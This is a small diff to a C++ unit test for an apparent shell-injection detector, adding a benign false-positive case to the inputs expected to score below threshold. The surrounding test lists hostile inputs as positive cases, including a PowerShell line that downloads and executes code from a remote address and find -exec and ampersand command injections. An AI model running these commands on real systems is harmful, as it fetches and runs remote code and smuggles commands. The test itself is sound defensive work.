@@ -124,7 +124,8 @@ TEST(Shell, ProgramsGivenToInterpretersAndQuotesLeft) {
        {"powershell -c \"iex(iwr http://192.0.2.1/a)\"", ";find /srv -name a -exec id \\;", "a & sleep 7\""}) {
     EXPECT_GE(points(text), kThreshold) << text;
   }
-  for (const std::string_view text : {"| id | name |", "a & sleep 7 hours", "a find -exec id"}) {
+  for (const std::string_view text :
+       {"| id | name |", "a & sleep 7 hours", "a find -exec id", "\"exec\" OR \"T'ai Chi\" -exec"}) {
     EXPECT_LT(points(text), kThreshold) << text;
   }
 }
